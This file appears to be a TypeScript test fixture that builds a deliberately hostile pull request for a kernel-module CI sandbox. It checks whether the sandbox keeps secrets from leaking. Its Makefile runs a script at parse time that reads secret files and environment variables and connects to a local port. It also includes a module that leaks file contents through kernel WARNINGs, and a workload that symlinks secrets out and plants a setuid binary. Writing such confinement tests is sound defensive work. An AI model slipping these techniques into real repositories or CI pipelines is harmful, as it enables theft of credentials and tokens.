// A pull request written by an attacker: the kni_like fixture whose PR commit changes the
// Makefile, the module and the workload script so that each tries to read the machine's secrets,
// reach the network and write outside its folders, and to hand what it found to the report (the
// build log, a kernel WARNING, the workload's output, links left in the out folder).
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, lstatSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildFixtureApp, fixtureSource } from '../../src/demo/fixture-repo.js';

export interface HostileTargets {
  /** Files holding secrets, by absolute path. */
  secretFiles: string[];
  /** A port on 127.0.0.1 that counts connections. */
  port: number;
  /** Files outside the PR's folders that it tries to create. */
  writes: string[];
}

export interface HostileRepo {
  dir: string;
  base: string;
  head: string;
  app: string;
  /** The workload input: the repository's script, given the program. */
  workload: string;
}

function git(dir: string, args: string[]): string {
  return execFileSync('git', args, {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, GIT_AUTHOR_NAME: 'x', GIT_AUTHOR_EMAIL: 'x@example.invalid', GIT_COMMITTER_NAME: 'x', GIT_COMMITTER_EMAIL: 'x@example.invalid' },
  }).trim();
}

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/** Shell lines that try everything; each attempt's outcome is printed with the prefix `steal`. */
function attempts(t: HostileTargets): string[] {
  const connect = `import socket; socket.create_connection(("127.0.0.1", ${t.port}), 3).sendall(b"stolen")`;
  return [
    ...t.secretFiles.map((f) => `cat ${q(f)} 2>&1 | sed 's/^/steal-file: /'`),
    `env | sed 's/^/steal-env: /'`,
    `python3 -c ${q(connect)} 2>&1 | tail -n 1 | sed 's/^/steal-net: /'`,
    ...t.writes.map((w) => `(echo stolen > ${q(w)}) 2>&1 | sed 's/^/steal-write: /'`),
  ];
}

/** Kbuild reads the Makefile of M= itself: the attempts run while it is parsed, their output on stderr (the build log). */
const MAKEFILE = `obj-m := kni_like.o
$(shell sh $(M)/steal.sh 1>&2)

KDIR ?= /lib/modules/$(shell uname -r)/build

modules:
\t$(MAKE) -C $(KDIR) M=$(CURDIR) modules
`;

/** The module reads each file at load and puts what it read in a WARNING (the report quotes splats). */
function hostileModule(fixtureDir: string, t: HostileTargets): string {
  const source = fixtureSource(fixtureDir, 'fixed');
  const reader = `
#include <linux/fs.h>
static void hostile_read(const char *path)
{
\tchar buf[128] = {0};
\tloff_t pos = 0;
\tstruct file *f = filp_open(path, O_RDONLY, 0);

\tif (IS_ERR(f)) {
\t\tpr_warn("hostile: %s: error %ld\\n", path, PTR_ERR(f));
\t\treturn;
\t}
\tkernel_read(f, buf, sizeof(buf) - 1, &pos);
\tfilp_close(f, NULL);
\tWARN(1, "hostile: %s: %s\\n", path, buf);
}
`;
  const calls = t.secretFiles.map((f) => `\thostile_read(${JSON.stringify(f)});\n`).join('');
  const init = 'static int __init kni_like_init(void)\n{\n';
  if (!source.includes(init)) throw new Error('kni_like.c no longer has kni_like_init');
  return source.replace(init, `${reader}\n${init}${calls}`);
}

const BASE_WORKLOAD = '#!/bin/sh\nexec "$1" -n 2\n';

/** The workload also leaves links to the secrets in the out folder, for the host to follow. */
function hostileWorkload(t: HostileTargets): string {
  return `#!/bin/sh
sh ./steal.sh
out=$(awk '$1 == "out" && $3 == "9p" { print $2 }' /proc/mounts)
echo "steal-out: $out"
if [ -n "$out" ]; then
  n=0
  for f in ${t.secretFiles.map(q).join(' ')}; do n=$((n + 1)); ln -sf "$f" "$out/stolen-$n.txt"; done
  mkfifo "$out/stolen.fifo"
  cp /bin/true "$out/stolen-suid" && chmod 4755 "$out/stolen-suid"
fi
exec "$1" -n 2
`;
}

export type HostilePart = 'build' | 'module' | 'workload';

/**
 * Base: the fixed module with a plain workload script; head: the same with the given parts turned
 * hostile (on `target: host` the module and the workload run as root on the machine by design:
 * only the build is confined there).
 */
export function createHostileRepo(
  fixtureDir: string,
  dir: string,
  targets: HostileTargets,
  parts: HostilePart[] = ['build', 'module', 'workload'],
): HostileRepo {
  mkdirSync(dir, { recursive: true });
  git(dir, ['init', '-q', '-b', 'main']);
  copyFileSync(join(fixtureDir, 'kni_like_ioctl.h'), join(dir, 'kni_like_ioctl.h'));
  writeFileSync(join(dir, '.gitignore'), '*.o\n*.ko\n*.mod\n*.mod.c\n.*.cmd\nModule.symvers\nmodules.order\n');
  copyFileSync(join(fixtureDir, 'Makefile'), join(dir, 'Makefile'));
  writeFileSync(join(dir, 'kni_like.c'), fixtureSource(fixtureDir, 'fixed'));
  writeFileSync(join(dir, 'exercise.sh'), BASE_WORKLOAD);
  chmodSync(join(dir, 'exercise.sh'), 0o755);
  git(dir, ['add', '-A']);
  git(dir, ['commit', '-q', '-m', 'base']);
  const base = git(dir, ['rev-parse', 'HEAD']);
  writeFileSync(join(dir, 'steal.sh'), `${attempts(targets).join('\n')}\n`);
  if (parts.includes('build')) writeFileSync(join(dir, 'Makefile'), MAKEFILE);
  if (parts.includes('module')) writeFileSync(join(dir, 'kni_like.c'), hostileModule(fixtureDir, targets));
  if (parts.includes('workload')) writeFileSync(join(dir, 'exercise.sh'), hostileWorkload(targets));
  git(dir, ['add', '-A']);
  git(dir, ['commit', '-q', '-m', 'an innocent-looking change']);
  const head = git(dir, ['rev-parse', 'HEAD']);
  const app = buildFixtureApp(fixtureDir, join(dir, '..', 'app'));
  return { dir, base, head, app, workload: `sh ./exercise.sh ${app}` };
}

/** Secrets to plant: unique strings that must never appear in anything the run writes. */
export interface PlantedSecrets {
  root: string;
  runner: string;
  checkout: string;
  env: string;
  runtime: string;
  /** How actions/checkout persists its token in .git/config: an http extraheader, the token in base64. */
  checkoutHeader: string;
}

export function plantedSecrets(): PlantedSecrets {
  const token = (what: string) => `${what}-${randomBytes(12).toString('hex')}`;
  const checkout = token('ghs_checkout');
  return {
    root: token('root-secret'),
    runner: token('runner-credentials'),
    checkout,
    env: token('ghs_env'),
    runtime: token('actions-runtime'),
    checkoutHeader: `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${checkout}`).toString('base64')}`,
  };
}

/** Which secrets (in any of their forms) a text holds. */
export function secretsIn(text: string, s: PlantedSecrets): string[] {
  const forms = [s.root, s.runner, s.checkout, s.env, s.runtime, s.checkoutHeader, Buffer.from(s.checkout).toString('base64')];
  return forms.filter((f) => text.includes(f));
}

/** Every file below dir, with its text (links are listed, never followed). */
export function filesBelow(dir: string): { path: string; link: boolean; text: string }[] {
  const found: { path: string; link: boolean; text: string }[] = [];
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    const st = lstatSync(path);
    if (st.isDirectory()) found.push(...filesBelow(path));
    else found.push({ path, link: st.isSymbolicLink(), text: st.isFile() ? readFileSync(path, 'latin1') : '' });
  }
  return found;
}
